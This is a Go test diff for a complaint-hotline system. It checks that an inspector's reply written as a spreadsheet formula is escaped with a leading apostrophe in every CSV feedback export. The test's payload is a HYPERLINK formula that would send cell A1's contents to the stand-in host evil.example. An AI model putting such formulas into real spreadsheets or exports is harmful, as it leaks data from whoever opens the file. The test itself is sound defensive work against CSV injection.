@@ -4,6 +4,8 @@ import (
 	"bytes"
 	"context"
 	"encoding/csv"
+	"os"
+	"path/filepath"
 	"strings"
 	"testing"
 	"time"
@@ -127,4 +129,76 @@ func TestFeedbackAfterDismissal(t *testing.T) {
 			t.Fatalf("xlsx %q %v", rows, err)
 		}
 	})
+}
+
+// TestFeedbackFormulaCellsAreText: a reply an inspector wrote as a formula
+// reaches the hotline as text in every CSV the feedback writes: the export
+// behind the operator page and the command line, in UTF-8 and in GBK.
+func TestFeedbackFormulaCellsAreText(t *testing.T) {
+	ctx := context.Background()
+	d := dbtest.MustOpenDB(t)
+	im := impNew(t, d)
+	rc, err := im.Import(ctx, strings.NewReader("工单编号,来电时间,举报内容\nX001,2026-11-03 14:22,河道排污\n"), "x.csv", "测试员", nil)
+	if err != nil || rc.Imported != 1 {
+		t.Fatalf("%v %+v", err, rc)
+	}
+	var id int64
+	if err := d.Get(&id, `SELECT id FROM complaints WHERE source_ref = 'X001'`); err != nil {
+		t.Fatal(err)
+	}
+	inspector := ledger.Actor{Name: "核查员"}
+	caseID, err := im.Ledger.Accept(ctx, id, 0, inspector, ledger.EventInput{})
+	if err != nil {
+		t.Fatal(err)
+	}
+	if err := im.Ledger.StartVerification(ctx, caseID, inspector, ledger.EventInput{}); err != nil {
+		t.Fatal(err)
+	}
+	formula := `=HYPERLINK("http://evil.example/?q="&A1,"查看详情")`
+	if err := im.Ledger.RecordVerification(ctx, caseID, ledger.Unsubstantiated, formula, inspector, ledger.EventInput{}); err != nil {
+		t.Fatal(err)
+	}
+	fb := &Feedback{Ledger: im.Ledger, DB: d}
+	decode := map[string]func([]byte) []byte{
+		FormatCSV: func(b []byte) []byte { return bytes.TrimPrefix(b, []byte("\ufeff")) },
+		FormatCSVGBK: func(b []byte) []byte {
+			u, err := simplifiedchinese.GBK.NewDecoder().Bytes(b)
+			if err != nil {
+				t.Fatal(err)
+			}
+			return u
+		},
+	}
+	check := func(t *testing.T, format string, b []byte) {
+		t.Helper()
+		rows := readFeedbackCSV(t, decode[format](b))
+		if len(rows) != 2 || rows[1][4] != "'"+formula {
+			t.Fatalf("%s: reply cell %q, want it behind an apostrophe", format, rows)
+		}
+	}
+	for _, format := range []string{FormatCSV, FormatCSVGBK} {
+		t.Run("Export/"+format, func(t *testing.T) {
+			var buf bytes.Buffer
+			from := time.Now().AddDate(0, 0, -1)
+			if _, err := fb.Export(ctx, &buf, FeedbackQuery{From: from, To: from.AddDate(0, 0, 2), Format: format}, "测试员"); err != nil {
+				t.Fatal(err)
+			}
+			check(t, format, buf.Bytes())
+		})
+		t.Run("Command/"+format, func(t *testing.T) {
+			out := filepath.Join(t.TempDir(), "回音.csv")
+			day := time.Now().In(im.Ledger.Location)
+			args := []string{"--from", day.AddDate(0, 0, -1).Format("2006-01-02"), "--to", day.AddDate(0, 0, 1).Format("2006-01-02"),
+				"--format", format, "-o", out}
+			var stdout, stderr bytes.Buffer
+			if code := FeedbackCommand(ctx, fb, args, &stdout, &stderr); code != ExitOK {
+				t.Fatalf("exit %d: %s", code, stderr.String())
+			}
+			b, err := os.ReadFile(out)
+			if err != nil {
+				t.Fatal(err)
+			}
+			check(t, format, b)
+		})
+	}
 }
